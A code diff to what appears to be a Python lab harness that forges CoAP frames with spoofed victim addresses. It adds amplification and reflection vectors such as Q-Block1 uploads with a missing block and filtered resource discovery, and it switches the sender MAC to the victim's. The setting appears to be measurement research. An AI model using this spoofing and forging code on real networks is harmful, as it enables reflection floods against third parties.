@@ -112,6 +112,14 @@ def _block1(i, num=0, more=True, szx=0, size=16, size1=None):
     return coap.message(coap.CON, coap.PUT, 0x2000 + i, b"b", opts, b"x" * size)
 
 
+def _q_block1(i):
+    """Blocks 0 and 2 of an upload by Q-Block1, of four with this Request-Tag; 1 never comes."""
+    num = 2 * (i % 2)
+    opts = coap.path("/q1") + [(coap.OPT_Q_BLOCK1, coap.uint(num << 4 | 8)), (coap.OPT_SIZE1, coap.uint(64)),
+                               (coap.OPT_REQUEST_TAG, b"%c" % (65 + i // 2 % 26))]
+    return coap.message(coap.NON, coap.PUT, 0x9000 + i, b"%c" % (65 + i // 2 % 26), opts, b"x" * 16)
+
+
 def _record(kind, version, body):
     """A DTLS record of epoch 0, or of connection ID 0x0102 (RFC 9146 section 4)."""
     head = bytes([kind]) + version + bytes(8)
@@ -151,6 +159,8 @@ def more_vectors():
         Vector("AV-27", "Q-Block2", start=6,
                shots=_train(4, 2, _get("/q", token=lambda i: b"%c" % (65 + i), extra=lambda i: [
                    (coap.OPT_Q_BLOCK2, b"\x0e")]), server=odd)),
+        Vector("AV-28", "Q-Block1, a block left out", start=7,
+               shots=_train(100, 20, _q_block1, server=odd)),
         Vector("AV-43", "Answers in fragments", start=9,
                shots=_train(20, 10, _get("/whole"), server=odd)),
         Vector("AV-18", "Large notifications", start=11,
@@ -184,6 +194,11 @@ def more_vectors():
                shots=_train(100, 20, lambda i: coap.message(
                    coap.CON, coap.POST, 0x6000 + i, b"r", coap.path("/rd")
                    + [(coap.OPT_URI_QUERY, b"ep=n%d" % i)], links), server=wiring.SERVER_RD)),
+        Vector("AV-37", "Discovery with a filter", start=48,
+               shots=_train(100, 20, _get("/.well-known/core", coap.CON, extra=lambda i: [
+                   (coap.OPT_URI_QUERY, b"rt=t*")]))),
+        Vector("AV-39", "Another query each time", start=52,
+               shots=_train(100, 20, _get("/m", extra=lambda i: [(coap.OPT_URI_QUERY, b"x=%d" % i)]))),
         Vector("AV-38", "Forward proxy", start=49,
                shots=_train(20, 5, lambda i: coap.message(
                    coap.NON, coap.GET, 0x7000 + i, b"p", [(coap.OPT_PROXY_URI, b"coap://192.0.2.1/time")]),
@@ -249,7 +264,7 @@ class Guesser(threading.Thread):
             time.sleep(0.05)
 
     def _acknowledge(self, packet):
-        frame = packets.udp_frame(wiring.MAC["attacker"], wiring.MAC["inside"], packet.dst, packet.src,
+        frame = packets.udp_frame(wiring.MAC["victim"], wiring.MAC["inside"], packet.dst, packet.src,
                                   packet.dport, packet.sport, b"\x60\x00" + packet.data[2:4])
         self.attacker.sent[self.key].append(Sent(time.time(), len(frame) - 14))
         self.attacker.sock.send(frame)
@@ -257,7 +272,9 @@ class Guesser(threading.Thread):
 
 class Attacker:
     """Sends the forged frames of all vectors, each at its time, and notes
-    every frame's IP bytes just before it leaves."""
+    every frame's IP bytes just before it leaves. The hardware address is the
+    victim's, as it would be a router's for all that is outside: what the gateway
+    sends back goes where the IP address says, and is counted."""
 
     def __init__(self, lab):
         self.lab = lab
@@ -280,7 +297,7 @@ class Attacker:
                 addresses = vector.addresses(index, phase, family)
                 for shot in vector.shots:
                     frame = packets.udp_frame(
-                        wiring.MAC["attacker"], hardware(shot.server[family]), addresses[shot.victim],
+                        wiring.MAC["victim"], hardware(shot.server[family]), addresses[shot.victim],
                         shot.server[family], shot.port, shot.to, shot.data)
                     plan.append((vector.start + shot.at, key, frame))
                 plan += [(vector.start + at, key, (path, body)) for at, path, body in vector.own]
